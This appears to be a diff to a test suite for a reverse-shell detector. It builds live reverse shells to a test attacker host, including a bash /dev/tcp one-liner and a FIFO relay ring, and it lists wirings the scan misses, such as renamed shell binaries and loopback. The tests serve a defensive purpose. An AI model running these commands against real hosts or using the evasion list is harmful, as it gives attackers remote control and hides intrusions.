@@ -1,4 +1,4 @@
-"""How a shell can be wired to an attacker's host, and which of these wirings a scan finds."""
+"""The wirings between a shell and an attacker's host that a scan finds, and those that it does not find."""
 
 import os
 import pathlib
@@ -29,7 +29,7 @@ from waiting import wait_until
 
 
 def child_that_runs(parent, cmdline):
-    """The id of the parent's child with this command line, None while there is none."""
+    """The pid of the parent's child with this command line; None if there is none."""
     for directory in pathlib.Path("/proc").glob("[0-9]*"):
         try:
             fields = (directory / "stat").read_text().rpartition(")")[2].split()
@@ -44,20 +44,20 @@ BEHIND_FIFO = "behind a FIFO"
 TCP_OVER_IPV6 = "TCP over IPv6"
 UDP_OVER_IPV4 = "UDP over IPv4"
 
-# The wirings that are found: the channels, what is at the shell's descriptors, and what at each companion's. A channel
-# that is but a word is opened by open_stage, which knows the addresses. The event names the connection "line".
+# The wirings that are found: the channels, the shell's descriptors, and the descriptors of each companion. For a
+# channel given as a string, open_stage fills in the addresses. The event names the connection "line".
 FOUND = {
     "one connection for input and output": (
         {"line": "tcp"},
         ON_LINE,
         [],
     ),
-    "input and output on two connections, of which the input's is named": (
+    "input and output on two connections: the event names that of the input": (
         {"line": "tcp", "answers": "tcp"},
         {0: "line", 1: "answers", 2: "answers"},
         [],
     ),
-    "input from a pipe that nobody else holds, output straight to the connection": (
+    "input from a pipe that no other process holds, output to the connection": (
         {"in": pipe(), "line": "tcp"},
         {0: "in.read", 1: "line"},
         [],
@@ -92,7 +92,7 @@ FOUND = {
         {0: "local.first", 1: "local.first", 2: "local.first"},
         [{0: "local.first", 3: "line"}],
     ),
-    "companion's connection at the last descriptor that is looked at": (
+    "companion's connection at the last descriptor that is inspected": (
         {"in": pipe(), "line": "tcp"},
         {0: "in.read"},
         [{1: "in.write", 3: "in.write", 4: "in.write", 9: "line"}],
@@ -119,7 +119,7 @@ FOUND = {
     ),
 }
 
-# The wirings that are not found, with the rule by which they are not.
+# The wirings that are not found, with the rule.
 SILENT = {
     "connection to 127.0.0.1: this host is not foreign": (
         {"line": loopback("127.0.0.1")},
@@ -131,32 +131,32 @@ SILENT = {
         ON_LINE,
         [],
     ),
-    "shell on a terminal: neither its input nor its output can come from afar": (
+    "shell on a terminal: neither its input nor its output is a pipe or a socket": (
         {"terminal": terminal(), "line": "tcp"},
         {0: "terminal", 1: "terminal", 2: "terminal", 3: "line"},
         [],
     ),
-    "connection held by the parent alone: parents are not looked at": (
+    "connection held only by the parent: parents are not inspected": (
         {"in": pipe(), "line": "tcp"},
         {0: "in.read"},
         [{1: "in.write"}],
     ),
-    "shell's connection behind six other descriptors": (
+    "shell's connection after six other descriptors": (
         {"in": pipe(), "line": "tcp"},
         {0: "in.read", 3: "in.read", 4: "in.read", 5: "in.read", 9: "line"},
         [],
     ),
-    "companion's connection behind six other descriptors": (
+    "companion's connection after six other descriptors": (
         {"in": pipe(), "line": "tcp"},
         {0: "in.read"},
         [{0: "in.write", 3: "in.write", 4: "in.write", 5: "in.write", 9: "line"}],
     ),
-    "companion with the connection and no pipe in common": (
+    "companion with the connection but no shared pipe": (
         {"in": pipe(), "other": pipe(), "line": "tcp"},
         {0: "in.read"},
         [{0: "line", 1: "other.write"}],
     ),
-    "the two ends of a socket pair: two sockets, with nothing to tell that they belong together": (
+    "the two ends of a socket pair: two sockets without a visible relation": (
         {"local": socketpair(), "line": "tcp"},
         {0: "local.first", 1: "local.first", 2: "local.first"},
         [{0: "local.second", 1: "line"}],
@@ -184,7 +184,7 @@ def open_stage(attacker, directory, wiring, mark):
 
 @pytest.fixture(scope="module")
 def witness(attacker):
-    """A shell that every scan has to find: without it, a scan that saw nothing at all would pass for a judgement."""
+    """A shell that every scan must find; it shows that a silent scan did work."""
     with reverse_shell(attacker, shell("witness", ON_LINE)) as stage:
         yield stage
 
@@ -217,7 +217,7 @@ def test_silent(attacker, witness, tmp_path, wiring):
 
 @pytest.mark.kernel
 def test_interactive_shell_that_bash_itself_connects(attacker):
-    """The one line that attackers use most, and proof that it gives them the host."""
+    """The command that attackers use most; the attacker can run commands with it."""
     address, port = attacker.tcp
     attack = f"exec bash --norc -i >& /dev/tcp/{address}/{port} 0>&1"
     process = Process({}, run=(BASH, "bash", "-c", attack), becomes=("bash", "--norc", "-i"))
@@ -246,15 +246,15 @@ while block := line.recv(4096):
 
 
 def test_shell_in_a_ring_of_fifo_and_pipes(attacker, tmp_path):
-    """cat, shell and relay in a ring, as it is built where no program can connect its own input and output."""
+    """cat, shell and relay in a ring, as attackers build it without a program that can connect a shell directly."""
     address, port = attacker.tcp
     (tmp_path / "relay.py").write_text(RELAY)
     relay = f"{sys.executable} relay.py {address} {port}"
     attack = f"cd '{tmp_path}'; mkfifo ring; cat ring | bash -s ringed 2>&1 | {relay} > ring; :"
     parent = Process({}, run=(BASH, "bash", "-c", attack))
     with Stage({}, {"shell": parent}) as stage:
-        wait_until((tmp_path / "connected").exists, "the relay has its connection")
-        pid = wait_until(lambda: child_that_runs(stage.pid, b"bash\0-s\0ringed\0"), "the shell in the ring runs")
+        wait_until((tmp_path / "connected").exists, "the relay is connected")
+        pid = wait_until(lambda: child_that_runs(stage.pid, b"bash\0-s\0ringed\0"), "the shell in the ring is running")
         (content,) = Scan().contents(pid)
         assert content["cmdline"] == "bash -s ringed"
         assert (content["ppid"], content["parentPath"]) == (stage.pid, BASH)
@@ -263,15 +263,15 @@ def test_shell_in_a_ring_of_fifo_and_pipes(attacker, tmp_path):
         assert "42-ring" in attacker.converse(content["localPort"], "echo $((6*7))-ring\n", "42-ring")
 
 
-def test_connection_that_no_process_holds_any_more_is_silent(attacker, witness):
-    """Such connections stay in the kernel's table for a minute, all with the number of no socket at all."""
+def test_closed_connection_is_ignored(attacker, witness):
+    """A closed connection stays in the kernel's table for a minute, with inode 0."""
     with socket.create_connection(attacker.tcp):
         pass
     with Stage({"in": pipe()}, {"shell": shell("unconnected", {0: "in.read"})}) as stage:
         assert_silent(stage, witness)
 
 
-def test_program_called_sh_is_a_shell_whatever_it_is_a_copy_of(attacker, tmp_path):
+def test_program_called_sh_is_a_shell_whatever_its_content(attacker, tmp_path):
     program = tmp_path / "sh"
     shutil.copy("/usr/bin/dash", program)
     with reverse_shell(attacker, shell("copied", ON_LINE, program=program, name="sh")) as stage:
@@ -294,14 +294,14 @@ def test_dash_is_silent_because_its_program_file_is_not_called_sh(attacker, witn
         assert_silent(stage, witness)
 
 
-def test_bash_under_another_name_is_silent_because_names_tell_shells(attacker, witness, tmp_path):
+def test_bash_under_another_name_is_silent_because_the_scan_goes_by_names(attacker, witness, tmp_path):
     program = tmp_path / "updater"
     shutil.copy(BASH, program)
     with reverse_shell(attacker, shell("renamed", ON_LINE, program=program)) as stage:
         assert_silent(stage, witness)
 
 
-def test_shell_with_deleted_program_file_is_silent_because_its_name_has_a_suffix_then(attacker, witness, tmp_path):
+def test_shell_with_deleted_program_file_is_silent_because_its_name_has_a_suffix(attacker, witness, tmp_path):
     program = tmp_path / "bash"
     shutil.copy(BASH, program)
     with reverse_shell(attacker, shell("deleted", ON_LINE, program=program)) as stage:
@@ -312,7 +312,7 @@ def test_shell_with_deleted_program_file_is_silent_because_its_name_has_a_suffix
 WHITELISTS = {
     "whole command line": ["bash -s listed"],
     "pattern": ["bash * listed"],
-    "pattern over a blank": ["bash*listed"],
+    "pattern across a space": ["bash*listed"],
     "single characters": ["bash -? l[a-i]sted"],
     "one of several": ["/opt/*", "nothing", "*listed"],
 }
@@ -326,7 +326,7 @@ def test_whitelisted_shell_is_silent(attacker, witness, tmp_path, whitelist):
 
 
 @pytest.mark.parametrize("pattern", ["bash", "listed", "bash -s", "-s listed", "BASH -S LISTED", ""])
-def test_pattern_has_to_match_the_whole_command_line(attacker, tmp_path, pattern):
+def test_pattern_must_match_the_whole_command_line(attacker, tmp_path, pattern):
     config = write_config(tmp_path, {"module": {"reverseShell": {"whitelist": [pattern]}}})
     with reverse_shell(attacker, shell("listed", ON_LINE)) as stage:
         assert Scan("--config", config).contents(stage.pid) == [stage.expected_content()]
